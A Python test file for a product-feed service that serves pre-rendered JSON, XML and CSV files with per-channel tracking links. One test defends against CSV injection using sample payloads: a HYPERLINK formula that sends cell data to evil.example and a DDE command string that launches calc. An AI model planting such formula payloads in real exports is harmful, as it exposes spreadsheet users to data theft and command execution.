"""Product feeds served from pre-rendered files: what a request gets is what rendering every
product for it would give, a new import renders the files again, every channel gets its own
links from the same file, a placeholder cut by a chunk boundary is still replaced, and
concurrent first requests render a file once."""

from __future__ import annotations

import csv
import io
import random
import threading
import xml.etree.ElementTree as ET
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any
from urllib.parse import parse_qs, urlencode, urlsplit

import orjson
import pytest

from auctera.domain import ids as idfmt
from auctera.domain.programs import ApprovalStatus
from auctera.domain.reports import spreadsheet_text
from auctera.domain.tracking import click_url, parse_link
from auctera.services import feed_formats
from auctera.services.feed_files import (
    GZIP_FOLDER,
    HEADER_LENGTH,
    PLACEHOLDER_LENGTH,
    FeedFiles,
    replaced,
    served,
)
from auctera.services.feed_formats import FeedItem
from auctera.services.partner_programs import product_link
from auctera.services.ports import ListedProgram

from .conftest import TRACKING, Caller, Network, World, product_row


@pytest.fixture
def world(net: Network) -> World:
    return World(net)


def feed(world: World, channel_id: int | None = None, caller: Caller | None = None, **body: Any) -> Any:
    response = (caller or world.publisher).post(
        "/v3/partner/products/feed",
        {"programId": world.program_id, "channelId": channel_id or world.channel_id, **body},
    )
    assert response.status_code == 200, response.text
    return response


def rendered_files(world: World, folder: str | None = None) -> list[Path]:
    """The files written (not their locks): the rendered ones, or those of `folder` (gzip)."""
    root = world.net.container.settings.feed_files_dir
    files = [p for p in root.rglob("*") if p.is_file() and not p.name.endswith(".lock")]
    if folder is None:
        return sorted(p for p in files if p.parent.name != GZIP_FOLDER)
    return sorted(p for p in files if p.parent.name == folder)


def import_rows(world: World, retailer_id: int, rows: list[dict[str, Any]]) -> None:
    world.advertiser.v2("POST", f"/v2/retailers/ret_{idfmt.to_base36(retailer_id)}/feeds", {"products": rows})


# --- what a request gets -----------------------------------------------------------------------


def _random_rows(rng: random.Random, count: int) -> list[dict[str, Any]]:
    """Names and descriptions with what each format escapes: quotes, commas, ampersands, angle
    brackets, non-ASCII, URL-unsafe characters."""
    alphabet = "abcXYZ 019&<>\"',;/?=%#+é漢ü€"
    rows = []
    for n in range(count):
        text = "".join(rng.choice(alphabet) for _ in range(rng.randrange(1, 30))).strip() or "x"
        row = product_row(
            f"r{n:04d}", f"{text} {n}", description=f"{text}, the {n}th", price=f"{n + 1}.{n % 100:02d}"
        )
        if n % 3 == 0:
            row["availability"] = "out of stock"
        if n % 4 == 0:
            del row["gtin"], row["brand"]
        rows.append(row)
    return rows


def _expected(world: World, retailer_id: int, *, set_epi: bool, gt: bool) -> bytes:
    """Every product rendered for this request one by one, with its real link, in one dumps."""
    container = world.net.container
    with container.uow(read_only=True) as uow:
        products = uow.products.after(retailer_id, None, 10**6)
        program = uow.programs.get(world.program_id)
    assert program is not None
    listed = ListedProgram(program, "Kitchentime SE", "SEK")
    prefix = click_url(TRACKING, world.program_id, world.publisher.id, world.channel_id)
    rows = [
        feed_formats.product_row(FeedItem(p, product_link(prefix, p, set_epi=set_epi, gt=gt)), listed)
        for p in products
    ]
    return orjson.dumps(rows)


def test_the_served_feed_is_the_row_by_row_rendering_in_every_format_and_variant(world: World) -> None:
    catalog = world.net.retailer(
        world.advertiser, "Random", "random.site.com", _random_rows(random.Random(7), 1500)
    )
    world.net.set_feeds(world.program_id, (catalog,))
    for set_epi in (False, True):
        for gt in (False, True):
            expected = _expected(world, catalog, set_epi=set_epi, gt=gt)
            for _ in range(2):  # rendered, then served from the file
                response = feed(world, setEpi=set_epi, gt=gt)
                assert response.headers["count"] == "1500"
                assert response.content == expected  # byte for byte
    url = _feed_url(world)
    for epi in ("0", "1"):
        expected = orjson.loads(_expected(world, catalog, set_epi=epi == "1", gt=False))
        as_text = [
            {name: ("" if row[name] is None else _as_text(row[name])) for name in feed_formats.FILE_FIELDS}
            for row in expected
        ]
        xml = _download(world, _signed(world, url, epi), format="XML")
        products = ET.fromstring(xml.content).findall("product")
        assert [{e.tag: e.text or "" for e in p} for p in products] == [
            {k: v for k, v in row.items() if v != ""} for row in as_text
        ]
        rows = list(
            csv.DictReader(io.StringIO(_download(world, _signed(world, url, epi), format="CSV").text))
        )
        assert rows == [{k: spreadsheet_text(v) for k, v in row.items()} for row in as_text]


def test_a_csv_feed_shows_a_merchants_formulas_as_text(world: World) -> None:
    """A merchant's product name is its publishers' to open in a spreadsheet: one that would run
    as a formula there (OWASP "CSV injection") gets a leading ' in the CSV file only."""
    names = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2"]
    rows = [product_row(f"f{n}", name) for n, name in enumerate(names)]
    rows.append(product_row("plain", "Plain name"))
    world.net.set_feeds(
        world.program_id, (world.net.retailer(world.advertiser, "Formulas", "f.site.com", rows),)
    )
    url = _feed_url(world)
    served = list(csv.DictReader(io.StringIO(_download(world, url, format="CSV").text)))
    by_sku = {row["productUrl"].rsplit("/", 1)[1]: row for row in served}
    assert [by_sku[f"f{n}"]["productName"] for n in range(len(names))] == ["'" + name for name in names]
    assert by_sku["plain"]["productName"] == "Plain name"
    assert by_sku["plain"]["productPrice"] == "129.5"  # numbers are not text: never prefixed
    xml = ET.fromstring(_download(world, url, format="XML").content)
    assert names[0] in [p.findtext("productName") for p in xml.findall("product")]  # XML: as sent


def _as_text(value: Any) -> str:
    """A JSON value as the XML and CSV files write it."""
    return ("true" if value else "false") if isinstance(value, bool) else str(value)


def _feed_url(world: World) -> str:
    [info] = world.publisher.get(
        f"/v3/partner/products/feedinfo/{world.program_id}/{world.channel_id}"
    ).json()
    return str(info["feedUrl"])


def _signed(world: World, url: str, epi: str) -> str:
    """The feed URL with epi=1 signed as the server signs it."""
    if epi == "0":
        return url
    service = world.net.container.partner_programs
    params = {k: v[0] for k, v in parse_qs(urlsplit(url).query).items()}
    signature = service.feed_url_signature(world.program_id, world.channel_id, int(params["pfid"]), True)
    params |= {"epi": "1", "sig": signature}
    return f"{urlsplit(url).path}?{urlencode(params)}"


def _download(world: World, url: str, **changes: str) -> Any:
    parts = urlsplit(url)
    params = {k: v[0] for k, v in parse_qs(parts.query).items()} | changes
    response = world.net.client.get(f"{parts.path}?{urlencode(params)}")
    assert response.status_code == 200, response.text
    return response


def test_several_feeds_join_into_one_array_and_an_empty_one_adds_nothing(world: World) -> None:
    outlet = world.net.retailer(
        world.advertiser, "Outlet", "outlet.site.com", [product_row("o1", "Outlet TV")]
    )
    empty = world.advertiser.v2("POST", "/v2/retailers", {"name": "Empty", "domain": "empty.site.com"})
    empty_id = idfmt.parse("ret", empty["retailer_id"])
    assert empty_id is not None
    world.net.set_feeds(world.program_id, (world.feed_id, empty_id, outlet))
    response = feed(world)
    assert response.headers["count"] == "3"
    assert [p["productName"] for p in response.json()] == ["PlayStation 5", "Xbox", "Outlet TV"]
    world.net.set_feeds(world.program_id, (empty_id,))
    assert feed(world).content == b"[]"


# --- invalidation and channels -----------------------------------------------------------------


def test_a_new_import_renders_the_file_again(world: World) -> None:
    assert [p["productName"] for p in feed(world).json()] == ["PlayStation 5", "Xbox"]
    [before] = rendered_files(world)
    import_rows(world, world.feed_id, [product_row("product_acb", "PlayStation 5 Pro")])
    response = feed(world)
    assert response.headers["count"] == "2"
    products = {p["productName"]: p["inStock"] for p in response.json()}
    assert products == {"PlayStation 5 Pro": True, "Xbox": False}
    [after] = rendered_files(world)  # the superseded file is gone
    assert after != before and not before.exists()


def test_program_settings_in_the_rows_render_the_file_again(world: World) -> None:
    assert {p["market"] for p in feed(world).json()} == {"SE"}
    container = world.net.container
    with container.uow() as uow:
        program = uow.programs.get(world.program_id)
        assert program is not None
        uow.programs.update(replace(program, market="NO"))
        uow.commit()
    assert {p["market"] for p in feed(world).json()} == {"NO"}


def test_every_channel_gets_its_own_links_from_the_same_file(world: World) -> None:
    second = world.net.channel(world.publisher, "John's newsletter")
    world.net.apply(world.program_id, world.publisher, second, ApprovalStatus.APPROVED)
    other = world.net.account("Jane Roe", "publisher")
    hers = world.net.channel(other, "Jane's site")
    world.net.apply(world.program_id, other, hers, ApprovalStatus.APPROVED)
    seen = {}
    for caller, channel in ((world.publisher, world.channel_id), (world.publisher, second), (other, hers)):
        for product in feed(world, channel, caller, setEpi=True).json():
            link = parse_link(urlsplit(product["trackingUrl"]).query)
            assert (link.campaign_id, link.publisher_id, link.channel_id) == (
                world.program_id,
                caller.id,
                channel,
            )
            assert link.epi == product["productName"]
            seen[(caller.id, channel)] = product["trackingUrl"]
    assert len(set(seen.values())) == 3
    assert len(rendered_files(world)) == 1  # one file (setEpi, no gt) for all three


def test_signed_downloads_use_the_same_files(world: World) -> None:
    url = _feed_url(world)
    xml = _download(world, url)
    assert len(rendered_files(world)) == 1
    assert _download(world, url).content == xml.content
    _download(world, url, format="CSV")
    assert [p.suffix for p in rendered_files(world)] == [".csv", ".xml"]
    link = ET.fromstring(xml.content).findall("product")[0].findtext("trackingUrl") or ""
    assert parse_link(urlsplit(link).query).channel_id == world.channel_id


# --- the files themselves ----------------------------------------------------------------------


def _render_items(count: int) -> Any:
    def render(placeholder: str) -> Iterator[bytes]:
        for n in range(count):
            yield f'{{"n":{n},"url":"https://t.example/click?o=1&{placeholder}&pr={n}"}},'.encode()

    return render


def test_a_placeholder_cut_by_a_chunk_boundary_is_replaced(tmp_path: Path) -> None:
    files = FeedFiles(tmp_path)
    with files.open("1", "stem", "v1", "json", _render_items(40)) as file:
        file.seek(HEADER_LENGTH)
        body = file.read()
        file.seek(0)
        placeholder = file.read(HEADER_LENGTH)[-(PLACEHOLDER_LENGTH + 1) : -1]
    expected = body.replace(placeholder, b"p=ab&ch=cd")
    assert body.count(placeholder) == 40 and b"p=ab&ch=cd" not in body
    for size in [*range(1, 70), 101, 4096]:  # every cut through a placeholder and around it
        with files.open("1", "stem", "v1", "json", _render_items(40)) as file:
            assert b"".join(replaced(file, b"p=ab&ch=cd", chunk_size=size)) == expected, size


def test_a_placeholder_next_to_its_own_first_character_is_replaced(tmp_path: Path) -> None:
    """Catalog text may hold the placeholder's first character anywhere, even right before a
    placeholder or at a chunk's end."""
    placeholder = b"X0123456789abcdef0123456789abcde"
    header = b"auctera-feed-file 1 " + placeholder + b"\n"
    body = b"XX" + placeholder + b"X0" + placeholder + placeholder + b"X01" + placeholder[:-1] + b"X"
    path = tmp_path / "f"
    path.write_bytes(header + body)
    expected = body.replace(placeholder, b"p=1&ch=2")
    assert expected.count(b"p=1&ch=2") == 3
    for size in range(1, len(body) + 2):
        with path.open("rb") as file:
            assert b"".join(replaced(file, b"p=1&ch=2", chunk_size=size)) == expected, size


def test_concurrent_first_requests_render_once_and_read_whole_files(tmp_path: Path) -> None:
    files = FeedFiles(tmp_path)
    renders = []
    start = threading.Barrier(8)

    def render(placeholder: str) -> Iterator[bytes]:
        renders.append(placeholder)
        yield from _render_items(2000)(placeholder)

    bodies: list[bytes] = []

    def request() -> None:
        start.wait()
        opened = files.open("7", "1-epi0-gt0", "v1", "json", render)
        bodies.append(b"".join(served([opened], b"p=1&ch=2", head=b"[", separator=b",", tail=b"]")))

    threads = [threading.Thread(target=request) for _ in range(8)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert len(renders) == 1
    assert len(bodies) == 8 and len(set(bodies)) == 1
    assert bodies[0].count(b"&p=1&ch=2&") == 2000
    # Only the file and its lock: no temporary file left behind.
    assert sorted(p.name for p in (tmp_path / "7").iterdir()) == ["1-epi0-gt0.lock", "1-epi0-gt0.v1.json"]


def test_concurrent_first_requests_through_the_app(world: World) -> None:
    rows = [product_row(f"p{i:04d}", f"Product {i}") for i in range(3000)]
    big = world.net.retailer(world.advertiser, "Big", "big.site.com", rows)
    world.net.set_feeds(world.program_id, (big,))
    results: list[Any] = []

    def request() -> None:
        results.append(feed(world).json())

    threads = [threading.Thread(target=request) for _ in range(4)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert len(results) == 4 and all(r == results[0] for r in results) and len(results[0]) == 3000
    assert len(rendered_files(world)) == 1
